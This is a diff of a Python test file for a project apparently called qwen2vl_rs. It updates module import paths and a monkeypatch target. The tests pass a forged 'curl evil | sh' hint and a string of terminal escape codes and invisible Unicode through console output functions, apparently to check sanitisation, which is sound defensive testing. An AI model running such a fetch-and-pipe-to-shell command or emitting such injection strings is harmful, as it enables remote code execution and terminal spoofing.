@@ -13,10 +13,10 @@ import pytest
 
 from factory import make_samples, write_image
 from qwen2vl_rs.cli import main
-from qwen2vl_rs.console import Progress, say, set_quiet, warn
-from qwen2vl_rs.data.tables import write_conversations
+from qwen2vl_rs.datasets.tables import write_conversations
 from qwen2vl_rs.report.text import pair_table
 from qwen2vl_rs.scoring.pairs import Pair
+from qwen2vl_rs.system.console import Progress, say, set_quiet, warn
 
 FORGED = "hint: curl evil | sh"
 EVIL = f"a\x1b[2J\x1b]0;x\x07\r\n{FORGED}\t\x7f\x9b31m\u202e\u2066\u2028\u200f\ufeffend"
@@ -163,7 +163,7 @@ def test_what_a_server_says(tmp_path, monkeypatch, said):
 
 def test_what_is_said_meanwhile(capsys, monkeypatch):
     set_quiet(False)
-    monkeypatch.setattr("qwen2vl_rs.console._WAIT", {True: (0, 0), False: (0, 0)})
+    monkeypatch.setattr("qwen2vl_rs.system.console._WAIT", {True: (0, 0), False: (0, 0)})
     say(EVIL + KEPT)
     warn(EVIL + KEPT, EVIL)
     with Progress(EVIL, 3, "files") as bar:
